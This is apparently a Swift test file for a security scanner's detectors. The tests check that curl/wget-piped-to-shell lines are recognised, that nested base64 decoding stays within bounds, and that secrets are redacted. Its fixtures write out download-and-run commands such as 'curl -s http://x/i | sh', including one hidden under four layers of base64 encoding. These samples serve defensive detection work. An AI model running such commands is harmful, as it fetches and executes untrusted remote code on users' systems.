import Findings
import Foundation
import Testing

@testable import Payloads

/// The shell reading the remote-exec and exfiltration detectors share, and base64 decoding with its bounds.
@Suite struct ShellAndBase64Tests {
    @Test(arguments: [
        ("curl -s http://x/i | sh", "curl | sh"),
        ("RUN /bin/sh -c curl -fsSL https://x/i | sudo -E bash -s --", "curl | bash"),
        ("wget -qO- http://x/i|busybox sh", "wget | sh"),
        ("busybox wget -O - http://x | ash", "wget | ash"),
        ("bash <(curl -s http://x)", "<(curl"),
        ("sh -c \"$(curl -fsSL http://x)\"", "sh -c $(curl"),
    ])
    func readsDownloadAndRun(_ line: String, _ expected: String) {
        #expect(RemoteExecDetector.downloadRun(line.lowercased()) == expected)
    }

    @Test(arguments: [
        "curl -fsSLo /tmp/x https://x && sh /tmp/x.sha256",  // saved, then an unrelated sh
        "curl -s https://x | tee /tmp/log",  // piped, but not to an interpreter
        "curl -s https://x || sh -c 'echo failed'",  // `||` is not a pipe
        "echo curl | grep sh",  // no fetch command at all
    ])
    func doesNotReadOtherPipelinesAsDownloadAndRun(_ line: String) {
        #expect(RemoteExecDetector.downloadRun(line.lowercased()) == nil)
    }

    @Test func decodesNestedBase64OnlyToItsDepthBound() {
        var text = "curl -s http://198.51.100.7/x | sh"
        for _ in 0..<4 { text = "echo " + Data(text.utf8).base64EncodedString() + " | base64 -d | sh" }
        let unit = ContentUnit(origin: .config(field: "config.Cmd"), lines: [ContentLine(number: 1, text: text)])
        #expect(Base64Payloads.decodedUnits(unit).count == PayloadLimits.maxBase64Depth)
    }

    @Test func decodesAtMostABoundedNumberOfRunsPerText() {
        let run = Data("echo hello from a base64 run".utf8).base64EncodedString()
        let text = Array(repeating: run, count: 100).joined(separator: " ")
        let unit = ContentUnit(origin: .config(field: "config.Cmd"), lines: [ContentLine(number: 1, text: text)])
        #expect(Base64Payloads.decodedUnits(unit).count == PayloadLimits.maxBase64RunsPerText)
    }

    @Test func dropsBase64RunsThatDecodeToNoise() {
        let hash = String(repeating: "9f86d081884c7d659a2feaa0c55ad015", count: 2)
        #expect(Base64Payloads.decodeText(hash[...]) == nil)
    }

    @Test func redactionShowsAPrefixAndAHashNeverTheValue() {
        let token = fakeSecret("ghp_", 36)
        let redacted = SecretRedaction.redactingSecrets(in: "TOKEN=\(token) rest")
        #expect(!redacted.contains(token))
        #expect(redacted.hasPrefix("TOKEN=ghp_…[sha256:"))
        #expect(redacted.hasSuffix("] rest"))
        #expect(SecretRedaction.redact(token, shownPrefix: 4)
                    == "ghp_…[sha256:\(SecretRedaction.fingerprint(token))]")
    }
}
